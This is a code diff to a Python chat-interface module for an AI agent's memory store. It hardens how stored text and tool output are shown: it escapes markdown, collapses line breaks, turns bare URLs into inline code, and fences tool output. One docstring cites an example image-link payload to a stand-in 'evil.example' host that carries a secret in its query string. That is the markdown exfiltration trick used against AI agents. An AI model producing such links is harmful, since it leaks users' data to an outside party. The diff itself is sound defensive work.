@@ -54,13 +54,29 @@ TERMINATE_RE = re.compile(r"\s*\bTERMINATE\b\s*$")
 FENCE_LANGUAGE_RE = re.compile(r"^```(\w+)", re.MULTILINE)  # the languages of the blocks the executor runs
 
 
-_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~&])")
+_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~&=:@$^])")
+# What GitHub-flavoured markdown turns into a link by itself (escaping its dots does not stop it): URLs with a
+# scheme, www. addresses, e-mail addresses. (A pipe ends one: inside a table, even inline code cannot hold it.)
+_LINKISH = re.compile(r"(?i)(?:\b[a-z][a-z0-9+.\-]*://|\bwww\.)[^\s|]+|[^\s@`|]+@[^\s@`|]+\.[^\s@`|]+")
 
 
 def as_text(value: str) -> str:
-    """``value`` shown literally inside markdown: every character markdown or HTML would act on is escaped, so a
-    description like ``![x](https://evil.example/?q=secret)`` stays text instead of becoming an image."""
-    return _MARKDOWN_SPECIAL.sub(r"\\\1", value)
+    """``value`` shown literally inside markdown, on one line.
+
+    Every character markdown or HTML would act on is escaped, so a description like
+    ``![x](https://evil.example/?q=secret)`` stays text instead of becoming an image; runs of whitespace (line
+    breaks too) become one space, so nothing in it starts a block (a heading underline, indented code, a list, a
+    directive); and what a renderer would make a link of (``https://...``, ``www.``, ``a@b.c``) is inline code,
+    which is never linked.
+    """
+    flat = " ".join(value.split())
+    parts: list[str] = []
+    done = 0
+    for link in _LINKISH.finditer(flat):
+        parts += [_MARKDOWN_SPECIAL.sub(r"\\\1", flat[done : link.start()]), inline_code(link.group())]
+        done = link.end()
+    parts.append(_MARKDOWN_SPECIAL.sub(r"\\\1", flat[done:]))
+    return "".join(parts)
 
 
 def fenced(text: str, language: str = "text") -> str:
@@ -68,6 +84,12 @@ def fenced(text: str, language: str = "text") -> str:
     longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
     fence = "`" * max(3, longest + 1)
     return f"{fence}{language}\n{text}\n{fence}"
+
+
+def tool_output(content: str) -> str:
+    """A tool step's output: stored content, shown as a code block it cannot close. Chainlit's client fences a
+    step's text only when it does not already start with a fence, so output beginning with one became markdown."""
+    return fenced(content)
 
 
 def inline_code(text: str) -> str:
@@ -222,9 +244,9 @@ class ChatSession:
         try:
             await self.store.delete(key, user_id=self.user_id, actor=self.user_id, surface="ui")
         except MemoryNotFound:
-            await cl.Message(content=f"No memory `{key}`.", author="agent-memory").send()
+            await cl.Message(content=f"No memory {inline_code(key)}.", author="agent-memory").send()
             return
-        await cl.Message(content=f"Deleted memory `{key}`.", author="agent-memory").send()
+        await cl.Message(content=f"Deleted memory {inline_code(key)}.", author="agent-memory").send()
 
 
 class Renderer:
@@ -347,9 +369,9 @@ class Renderer:
             if step is None:
                 step = cl.Step(name=result.name, type="tool")
                 await step.__aenter__()
-            step.language = "text"  # stored content, tool output: shown as text, never rendered as markdown
+            step.language = "text"
             step.is_error = bool(result.is_error)
-            step.output = result.content
+            step.output = tool_output(result.content)
             await step.__aexit__(None, None, None)
 
     async def context_event(self, event: Any) -> None:
